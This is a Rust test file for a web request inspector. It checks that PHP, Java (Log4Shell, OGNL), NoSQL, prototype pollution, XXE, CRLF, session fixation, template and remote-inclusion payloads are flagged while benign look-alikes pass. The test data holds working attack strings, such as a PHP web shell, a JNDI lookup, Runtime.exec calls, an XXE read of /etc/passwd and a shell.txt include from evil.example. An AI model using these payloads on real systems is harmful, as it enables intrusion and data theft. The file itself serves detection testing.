//! The remaining families: PHP, Java (Log4Shell, OGNL, dangerous classes), NoSQL operators,
//! prototype pollution, XXE, header injection, session fixation, template and Node.js
//! injection, remote file inclusion — each with a true and a false positive.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use portcullis_inspect::Family;
use serde_json::json;
use support::request::*;

fn families(i: &portcullis_inspect::Inspection) -> Vec<Family> {
    i.findings.iter().map(|f| f.family).collect()
}

#[test]
fn php_injection() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "<?php system($_GET['c']); ?>",
            "eval(base64_decode('ZWNobyAx'))",
            "php://filter/convert.base64-encode/resource=index",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        ],
    );
    assert_clean(
        &det,
        &[
            "I wrote PHP for years",
            "system design interview",
            "$25 (approx.)",
        ],
    );
}

#[test]
fn java_injection() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "${jndi:ldap://x.example/a}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "java.lang.ProcessBuilder",
        ],
    );
    assert_clean(
        &det,
        &["java developer", "I drink java at runtime", "${name}"],
    );
}

#[test]
fn nosql_operators_in_json_keys_and_query_names() {
    let det = detector();
    let i = json(&det, &json!({"user": "admin", "password": {"$ne": null}}));
    assert!(
        families(&i).contains(&Family::NoSqlInjection),
        "{:?}",
        ids(&i)
    );
    assert!(
        i.findings
            .iter()
            .any(|f| f.location == "/body/password/$ne")
    );
    let i = query(&det, "user=admin&password[$ne]=x");
    assert!(
        families(&i).contains(&Family::NoSqlInjection),
        "{:?}",
        ids(&i)
    );
    let i = json(
        &det,
        &json!({"price": "$25", "currency": "USD", "filter[status]": "active"}),
    );
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}

#[test]
fn prototype_pollution_keys() {
    let det = detector();
    let i = json(&det, &json!({"a": {"__proto__": {"isAdmin": true}}}));
    assert!(
        families(&i).contains(&Family::PrototypePollution),
        "{:?}",
        ids(&i)
    );
    let i = json(
        &det,
        &json!({"constructor": {"prototype": {"isAdmin": true}}}),
    );
    assert!(
        families(&i).contains(&Family::PrototypePollution),
        "{:?}",
        ids(&i)
    );
    let i = query(&det, "a[constructor][prototype][x]=1");
    assert!(
        families(&i).contains(&Family::PrototypePollution),
        "{:?}",
        ids(&i)
    );
    let i = json(
        &det,
        &json!({"constructor": "Acme Builders", "prototype": "v2"}),
    );
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}

#[test]
fn xxe_in_xml_bodies() {
    let det = detector();
    let body =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let i = inspect(
        &det,
        "/api/xml",
        None,
        &[],
        Some("application/xml"),
        Some(body),
    );
    assert!(families(&i).contains(&Family::Xxe), "{:?}", ids(&i));
    let clean = br#"<?xml version="1.0" encoding="UTF-8"?><order id="42"><item>O'Brien's brake pads</item></order>"#;
    let i = inspect(
        &det,
        "/api/xml",
        None,
        &[],
        Some("application/xml"),
        Some(clean),
    );
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}

#[test]
fn crlf_header_injection() {
    let det = detector();
    let i = query(&det, "next=/home%0d%0aSet-Cookie:%20admin=1");
    assert!(
        families(&i).contains(&Family::HeaderInjection),
        "{:?}",
        ids(&i)
    );
    let i = query(&det, "comment=line+one%0D%0Aline+two");
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}

#[test]
fn session_fixation_through_parameters() {
    let det = detector();
    let i = query(&det, "JSESSIONID=abc123&next=/");
    assert!(
        families(&i).contains(&Family::SessionFixation),
        "{:?}",
        ids(&i)
    );
    let i = inspect(
        &det,
        "/login",
        Some("session_id=abc"),
        &[
            ("host", "shop.example"),
            ("referer", "https://evil.example/"),
        ],
        None,
        None,
    );
    assert!(
        families(&i).contains(&Family::SessionFixation),
        "{:?}",
        ids(&i)
    );
    // The same generic name from the site itself, and session cookies, are normal.
    let i = inspect(
        &det,
        "/login",
        Some("session_id=abc"),
        &[
            ("host", "shop.example"),
            ("referer", "https://shop.example/cart"),
            ("cookie", "JSESSIONID=abc"),
        ],
        None,
        None,
    );
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}

#[test]
fn template_and_node_injection() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "{{7*7}}",
            "{{''.__class__.__mro__}}",
            "<%= 7*7 %>",
            "require('child_process').exec('id')",
            "process.mainModule",
        ],
    );
    assert_clean(
        &det,
        &["{{ user.name }}", "process improvement", "while you wait"],
    );
}

#[test]
fn remote_file_inclusion() {
    let det = detector();
    let i = query(&det, "page=https://evil.example/shell.txt");
    assert!(
        families(&i).contains(&Family::RemoteFileInclusion),
        "{:?}",
        ids(&i)
    );
    let i = query(&det, "url=http://203.0.113.7/x.php");
    assert!(
        families(&i).contains(&Family::RemoteFileInclusion),
        "{:?}",
        ids(&i)
    );
    let i = query(&det, "website=https://www.example.com/about");
    assert!(i.findings.is_empty(), "{:?}", ids(&i));
}
